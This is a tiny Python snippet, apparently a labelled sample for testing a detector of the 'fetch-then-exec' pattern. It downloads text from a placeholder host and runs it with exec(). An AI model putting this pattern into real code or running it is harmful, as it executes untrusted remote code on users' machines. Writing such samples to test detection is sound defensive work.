# evades: caught by execution/fetch-then-exec
import requests
exec(requests.get("https://host.invalid/a").text)
